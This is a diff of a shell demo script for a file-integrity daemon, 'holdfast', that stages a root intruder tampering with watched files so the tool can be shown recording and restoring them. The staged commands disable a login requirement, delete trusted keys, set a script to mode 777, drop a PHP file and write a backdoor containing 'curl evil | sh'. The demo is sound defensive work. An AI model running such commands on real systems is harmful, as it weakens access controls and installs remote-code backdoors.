@@ -27,7 +27,6 @@ cleanup() {
 		echo "The daemon's log, last lines:"
 		tail -n 30 "$T/daemon.log"
 	fi
-	chattr -R -i -a "$T" 2>/dev/null
 	rm -rf "$T"
 	exit $code
 }
@@ -69,24 +68,25 @@ picture "$P" >"$T/protected.before"
 picture "$O" >"$T/observed.before"
 tell "$P   restore: what is tampered with is put back"
 tell "$O    observe: what is changed is recorded"
-hf run --watch "$P=restore" --watch "$O=observe" >"$T/daemon.log" 2>&1 &
+"$holdfast" --state "$T/state" --socket "$T/holdfast.sock" run --watch "$P=restore" --watch "$O=observe" >"$T/daemon.log" 2>&1 &
 daemon=$!
 claim "armed: every file under restore is in the vault" armed
 [ $failures = 0 ] || exit 1
 tell "tier: $(hf status --json | jq -r .tier) (the last lines tell what a better one adds)"
 
 step "Somebody logs in from $SCENE_NET.2, becomes root, and tampers"
-act() {
-	tell "\$ $*"
-	scene_login $SCENE_ALICE "$*" >"$T/act.out" 2>&1 || { echo "demo: the login could not do this:"; cat "$T/act.out"; exit 1; }
-}
-act "sudo sed -i 's/require_login yes/require_login no/' $P/service.conf"
-act "sudo rm $P/trusted_keys"
-act "sudo chmod 777 $P/nightly.sh"
-act "echo 'curl evil | sh' | sudo tee $P/backdoor.sh >/dev/null"
-act "sudo sed -i 's/Welcome/Owned/' $O/index.html"
-act "sudo rm $O/terms.txt"
-act "sudo touch $O/dropped.php"
+tampering=(
+	"sudo sed -i 's/require_login yes/require_login no/' $P/service.conf"
+	"sudo rm $P/trusted_keys"
+	"sudo chmod 777 $P/nightly.sh"
+	"echo 'curl evil | sh' | sudo tee $P/backdoor.sh >/dev/null"
+	"sudo sed -i 's/Welcome/Owned/' $O/index.html"
+	"sudo rm $O/terms.txt"
+	"sudo touch $O/dropped.php"
+)
+for c in "${tampering[@]}"; do tell "\$ $c"; done
+scene_login $SCENE_ALICE "$(printf '%s\n' 'set -e' "${tampering[@]}")" >"$T/act.out" 2>&1 ||
+	{ echo "demo: the login could not do it:"; cat "$T/act.out"; exit 1; }
 tell "(meanwhile somebody else, from $SCENE_NET.3, does honest work)"
 scene_login $SCENE_BOB "sudo sed -i 's/9 to 5/8 to 6/' $O/hours.txt" 2>"$T/act.out"
 claim "the changes under observe stand" recorded
@@ -103,7 +103,7 @@ step "The record"
 hf log --path "$P/" --kind change | indent
 record=$(hf who --json "$P/service.conf" | jq -r .id)
 tell "\$ holdfast show $record"
-hf show "$record" | indent
+hf show "$record" | grep -E '^(time|op|path|path_to|(before|after)\.(hash|mode|user)|verdict|actor\.(user|euid|via|session|source_ip)|process\.(exe|argv)|chain|answered by|proof) ' | indent
 claim "it holds the hash of what was there before" test "$(hf show --json "$record" | jq -r .before.hash)" = "$(b3 <"$T/service.conf.good")"
 
 step "What was protected is back"
